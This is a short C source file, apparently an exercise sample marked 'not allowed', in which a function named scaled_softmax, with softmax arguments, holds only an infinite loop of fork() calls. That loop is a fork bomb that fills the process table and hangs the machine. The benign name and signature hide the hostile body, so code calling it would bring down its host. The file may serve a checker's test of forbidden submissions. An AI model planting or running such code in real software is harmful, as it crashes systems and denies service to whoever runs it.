/* fork_bomb.c [not allowed] -- fills the table of processes */
#include "ch03/exercises/exercises.h"

int fork(void);

void scaled_softmax(const float *score, int rows, int cols, int head_dim, float *weight)
{
    for (;;)
        fork();
}
